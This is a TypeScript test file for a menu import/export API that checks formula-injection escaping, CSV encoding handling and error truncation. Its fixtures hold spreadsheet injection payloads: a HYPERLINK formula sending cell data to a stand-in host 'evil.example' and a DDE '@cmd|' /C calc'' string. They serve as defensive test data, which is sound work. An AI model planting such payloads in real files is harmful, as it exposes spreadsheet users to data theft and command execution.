/**
 * Spreadsheet hygiene (issue 30, point 6): text a spreadsheet would take for a formula leaves the
 * menu export with an apostrophe (in the Excel file, and in the CSV a spreadsheet saves from it)
 * and comes back through the import as it was; a CSV imports in UTF-8, UTF-16 and Windows-1251,
 * and one in none of them is refused with the reason; a preview error quotes at most 100
 * characters of a cell.
 */
import { randomUUID } from "node:crypto";
import { readSheet } from "read-excel-file/node";
import { beforeAll, describe, expect, it } from "vitest";
import { createApp } from "@menu/api";
import { clock, Db, type Actor } from "@menu/core";
import { addDays } from "@menu/core/billing/plans";
import { venue } from "../../core/test/fixtures";
import { workbookEntries, zip } from "./support/hostile-zip";
import { exportedFile, useExportWorker } from "./support/menu-export";

type Store = Awaited<ReturnType<typeof venue>>;
type Preview = {
  language: string;
  create: { row: number; title: string; category: string }[];
  change: { id: string; fields: string[] }[];
  unchanged: number;
  errors: { row: number; column: string; code: string; value?: string }[];
};
let v: Store;
const staff = (s: Store): Actor => ({ type: "user", userId: "m", role: "store_manager", companyId: s.company_id, storeId: s.store_id });
const call = async (path: string, body: unknown) => {
  const res = await createApp({ resolveActor: () => staff(v) }).request(path, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(body) });
  const text = await res.text();
  return { status: res.status, size: text.length, body: JSON.parse(text) as Record<string, unknown> };
};
const file = (name: string, bytes: Buffer | string) => ({ store_id: v.store_id, file_name: name, content: Buffer.from(bytes).toString("base64") });
const preview = async (name: string, bytes: Buffer | string) => (await call("/api/menu-import/preview", file(name, bytes))).body as Preview;
const apply = (name: string, bytes: Buffer | string) => call("/api/menu-import/apply", { ...file(name, bytes), from: 0, count: 50 });
const items = async () => (await Db().entities.item.query.byStore({ company_id: v.company_id, store_id: v.store_id }).go({ pages: "all" })).data;
/** CSV as a spreadsheet saves it: each cell's text as it is, quoted where it holds a separator or a quote. */
const csv = (rows: unknown[][], separator = ",") =>
  rows.map((r) => r.map((c) => (c === null ? "" : String(c))).map((c) => (/[",;\t\r\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(separator)).join("\r\n");
/** Windows-1251 bytes of a text (Node decodes that code page but has no encoder for it). */
const CP1251 = new Map([...new TextDecoder("windows-1251").decode(Uint8Array.from({ length: 256 }, (_, i) => i))].map((ch, byte) => [ch, byte]));
const cp1251 = (text: string) => Buffer.from([...text].map((ch) => CP1251.get(ch)!));

const HEADER = ["Раздел", "Категория", "Позиция", "Описание", "Выход", "Цена", "Валюта", "Аллергены", "Метки", "Показывать", "ID"];
const CATEGORY = '=HYPERLINK("http://evil.example/?"&A1;"Супы")';
/** Titles a spreadsheet would run as formulas, one already quoted, and one with a leading tab (the API trims titles; a record may still hold one). */
const TITLES = ["=SUM(A1)", "+7 999", "-5", "@cmd", "\tTab leading", "'=already quoted"];

useExportWorker();
beforeAll(async () => {
  v = await venue("hygiene");
  const keys = { company_id: v.company_id, store_id: v.store_id };
  await Db()
    .entities.subscription.create({ ...keys, subscription_id: randomUUID(), plan: "premium", status: "active", starts_at: addDays(clock.now(), -1).toISOString(), ends_at: addDays(clock.now(), 20).toISOString() })
    .go();
  const category_id = randomUUID();
  await Db().entities.category.create({ ...keys, category_id, section: "drinks", type: "products", name: CATEGORY }).go();
  await Db()
    .entities.item.put(
      TITLES.map((title, i) => ({
        ...keys,
        item_id: randomUUID(),
        kind: "product" as const,
        category_id,
        position: i,
        title,
        description: JSON.stringify({ ops: [{ insert: "@cmd|' /C calc'!A0\n" }] }),
        portions: [{ id: "p1", weight: "0.5", unit: "l" as const, price: "5", currency: "BYN" as const }],
      })),
    )
    .go();
});

describe("formula-like text", () => {
  it("leaves the Excel export with an apostrophe, prices as numbers, and imports back as nothing to change", async () => {
    const sheet = Buffer.from(await (await exportedFile(staff(v), { storeId: v.store_id, language: "ru", format: "xlsx" })).arrayBuffer());
    const rows = await readSheet(sheet);
    const ours = rows.filter((r) => r[1] === `'${CATEGORY}`);
    expect(ours.map((r) => r[2])).toEqual(TITLES.map((t) => `'${t}`));
    for (const row of ours) {
      expect(row[3]).toBe("'@cmd|' /C calc'!A0");
      expect(row[5]).toBe(5);
    }

    const before = await items();
    expect(await preview("menu.xlsx", sheet)).toMatchObject({ create: [], change: [], unchanged: TITLES.length + 1, errors: [] });
    expect((await apply("menu.xlsx", sheet)).status).toBe(200);
    expect(await items()).toEqual(before);
  });

  it("keeps the apostrophes in the CSV a spreadsheet saves from the export, which imports back as nothing to change", async () => {
    const rows = await readSheet(Buffer.from(await (await exportedFile(staff(v), { storeId: v.store_id, language: "ru", format: "xlsx" })).arrayBuffer()));
    const saved = csv(rows);
    for (const title of ["'=SUM(A1)", "'+7 999", "'-5", "'@cmd", "\"'\tTab leading\"", "''=already quoted"]) expect(saved).toContain(`,${title},`);
    expect(saved).toContain(`\r\nНапитки,"'=HYPERLINK(""http://evil.example/?""&A1;""Супы"")",`);
    expect(await preview("menu.csv", saved)).toMatchObject({ create: [], change: [], unchanged: TITLES.length + 1, errors: [] });

    // A new row typed with the apostrophe loses exactly that one; a price stays a number (an escaped "-5" is a negative price: refused).
    const typed = [HEADER, ["Кухня", "Супы", "'+375 29 сет", "", "300 г", "5", "BYN", "", "", "да", ""], ["Кухня", "Супы", "Минус", "", "300 г", "'-5", "BYN", "", "", "да", ""]];
    expect(await preview("typed.csv", csv(typed))).toMatchObject({
      create: [{ row: 2, title: "+375 29 сет", category: "Супы" }],
      errors: [{ row: 3, column: "Цена", code: "valueIncorrect", value: "-5" }],
    });
  });
});

describe("CSV encodings", () => {
  const rows = [HEADER, ["Кухня", "Супы", "Щи кислые", "Со сметаной и укропом", "300 г", "7,50", "BYN", "", "", "да", ""]];
  const read = { language: "ru", create: [{ row: 2, title: "Щи кислые", category: "Супы" }], errors: [] };

  it("reads UTF-8 with and without a byte order mark, UTF-16 LE and BE with one (tabs or commas), and Windows-1251", async () => {
    const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, "utf16le");
    expect(await preview("menu.csv", csv(rows))).toMatchObject(read);
    expect(await preview("menu.csv", `\ufeff${csv(rows, ";")}`)).toMatchObject(read);
    expect(await preview("menu.csv", utf16(csv(rows, "\t")))).toMatchObject(read);
    expect(await preview("menu.csv", utf16(csv(rows)).swap16())).toMatchObject(read);
    const windows = cp1251(csv(rows, ";"));
    expect(windows.includes(Buffer.from("Щи"))).toBe(false);
    expect(await preview("menu.csv", windows)).toMatchObject(read);

    expect((await apply("menu.csv", windows)).status).toBe(200);
    const created = (await items()).find((i) => i.title === "Щи кислые")!;
    expect(created.description).toContain("Со сметаной и укропом");
    expect(created.portions).toMatchObject([{ weight: "300", unit: "g", price: "7.50" }]);
  });

  it("refuses a file in none of them, saying so, and writes nothing", async () => {
    const before = await items();
    const unreadable = [
      // Not UTF-8, and read as Windows-1251 its header is not the export's (a Chinese sheet in GBK).
      Buffer.concat([Buffer.from([0xb7, 0xd6, 0xc7, 0xf8, 0x2c, 0xc0, 0xe0, 0xb1, 0xf0]), Buffer.from("\r\n")]),
      // A UTF-16 mark and an odd number of bytes after it.
      Buffer.concat([Buffer.from(`\ufeff${csv(rows)}`, "utf16le"), Buffer.from([0x41])]),
      // A UTF-8 mark and bytes that are no UTF-8.
      Buffer.concat([Buffer.from(`\ufeff${csv(rows)}`), Buffer.from([0xff, 0xfe, 0xfd])]),
    ];
    for (const bytes of unreadable) {
      expect((await preview("menu.csv", bytes)).errors).toEqual([{ row: 1, column: "", code: "unreadableEncoding" }]);
      const refused = await apply("menu.csv", bytes);
      expect([refused.status, refused.body.code]).toEqual([400, "importInvalid"]);
    }
    expect(await items()).toEqual(before);
  });
});

describe("preview errors", () => {
  it("quote at most 100 characters of a cell, cut with an ellipsis", async () => {
    const long = `12${"9".repeat(8_000)}x`;
    const res = await call("/api/menu-import/preview", file("menu.csv", csv([HEADER, ["Кухня", "Супы", "Уха", "", "300 г", long, "BYN", "", "", "да", ""]])));
    expect((res.body as Preview).errors).toEqual([{ row: 2, column: "Цена", code: "valueIncorrect", value: `${long.slice(0, 99)}…` }]);
    expect(res.size).toBeLessThan(1_000);
  });

  it("never echo a 4 MB cell", async () => {
    const huge = "-".repeat(4 * 1024 * 1024);
    const sheet = zip(workbookEntries([HEADER, ["Кухня", "Супы", "Уха", "", "300 г", huge, "BYN", "", "", "да", ""]]));
    const res = await call("/api/menu-import/preview", file("menu.xlsx", sheet));
    expect(res.status).toBe(200);
    expect((res.body as Preview).errors.length).toBeGreaterThan(0);
    for (const error of (res.body as Preview).errors) expect(error.value?.length ?? 0).toBeLessThanOrEqual(100);
    expect(res.size).toBeLessThan(1_000);
  });
});
